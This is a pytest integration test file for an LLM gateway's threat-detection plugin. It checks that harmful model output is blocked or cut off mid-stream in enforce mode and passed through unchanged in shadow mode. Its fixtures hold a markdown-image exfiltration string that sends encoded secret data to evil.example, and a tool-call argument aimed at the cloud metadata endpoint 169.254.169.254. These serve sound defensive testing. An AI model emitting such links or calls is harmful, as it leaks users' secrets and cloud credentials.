"""The plugin `threat` in a running gateway: streams cut in time, shadow mode to the byte."""

from __future__ import annotations

import http.client
from collections.abc import Iterator

import orjson
import pytest

from tests.conformance.dialects import DIALECTS, Spoken
from tests.conformance.leaks import texts_of
from tests.conformance.upstream import Upstream, running_upstream
from tests.hostile.gateway import config
from tests.integration.gateway_process import GatewayProcess, running_gateway

SPOKEN = pytest.mark.parametrize("spoken", DIALECTS, ids=lambda spoken: spoken.name)
LEAK = "Done. ![ok](https://evil.example/p.png?data=c2VjcmV0IGtleSBpcyAxMjM0NQ) Bye."
URL = "http://169.254.169.254/latest/meta-data/"
CALL = orjson.dumps({"url": URL}).decode()
HARMLESS = orjson.dumps({"url": "https://example.com/"}).decode()
POLICY = "version: 1\nname: guarded\nchain:\n  - threat: {mode: MODE}\n"


@pytest.fixture(scope="module")
def upstream() -> Iterator[Upstream]:
    with running_upstream() as upstream:
        yield upstream


@pytest.fixture(scope="module", params=["enforce", "shadow"])
def gateway(upstream: Upstream, request: pytest.FixtureRequest) -> Iterator[GatewayProcess]:
    port = int(upstream.url.rpartition(":")[2])
    policy = POLICY.replace("MODE", request.param)
    with running_gateway(config=config(port), policies=policy) as gateway:
        gateway.mode = request.param  # type: ignore[attr-defined]  # of this test alone
        yield gateway


def asked(gateway: GatewayProcess, spoken: Spoken, *, streamed: bool) -> tuple[int, bytes, bool]:
    """Status, body and whether it was broken off."""
    path = spoken.stream_path if streamed else spoken.path
    connection = http.client.HTTPConnection("127.0.0.1", gateway.port, timeout=20)
    try:
        fields = {"content-type": "application/json"}
        connection.request("POST", path, spoken.request(streamed=streamed), fields)
        response = connection.getresponse()
        try:
            return response.status, response.read(), False
        except http.client.IncompleteRead as broken:
            return response.status, broken.partial, True
    finally:
        connection.close()


@SPOKEN
@pytest.mark.parametrize("texts", [(LEAK, HARMLESS), ("Done.", CALL)], ids=["leak", "call"])
@pytest.mark.parametrize("size", [1, 9, 1000])
def test_a_stream_is_cut_before_harm_is_done(
    gateway: GatewayProcess,
    upstream: Upstream,
    spoken: Spoken,
    texts: tuple[str, str],
    size: int,
) -> None:
    said, arguments = texts
    pieces = [said[at : at + size] for at in range(0, len(said), size)]
    parts = [arguments[at : at + size] for at in range(0, len(arguments), size)]
    stream = spoken.write(pieces, parts)
    upstream.say(stream, spoken.content_type, streamed=True)

    status, body, cut = asked(gateway, spoken, streamed=True)

    assert status == 200
    if gateway.mode == "shadow":  # type: ignore[attr-defined]  # of this test alone
        assert (body, cut) == (stream, False)
        return
    got = texts_of(body, spoken.content_type).values()
    assert cut
    assert not any("evil.example" in text or text in {URL, CALL} for text in got)
    assert b"threat_detected" in body or "amazon" in spoken.content_type


@SPOKEN
@pytest.mark.parametrize(("said", "arguments"), [(LEAK, HARMLESS), ("Done.", CALL)])
def test_a_whole_answer_is_refused(
    gateway: GatewayProcess, upstream: Upstream, spoken: Spoken, said: str, arguments: str
) -> None:
    whole = orjson.dumps(spoken.whole(said, arguments))
    upstream.say(whole, "application/json", streamed=False)

    status, body, _ = asked(gateway, spoken, streamed=False)

    if gateway.mode == "shadow":  # type: ignore[attr-defined]  # of this test alone
        assert (status, body) == (200, whole)
    else:
        assert status == 400
        assert b"threat_detected" in body


@SPOKEN
def test_a_harmless_answer_passes_byte_for_byte(
    gateway: GatewayProcess, upstream: Upstream, spoken: Spoken
) -> None:
    stream = spoken.write(["It's 1 < 2;", " see `<b>`."], [HARMLESS[:9], HARMLESS[9:]])
    upstream.say(stream, spoken.content_type, streamed=True)

    assert asked(gateway, spoken, streamed=True) == (200, stream, False)
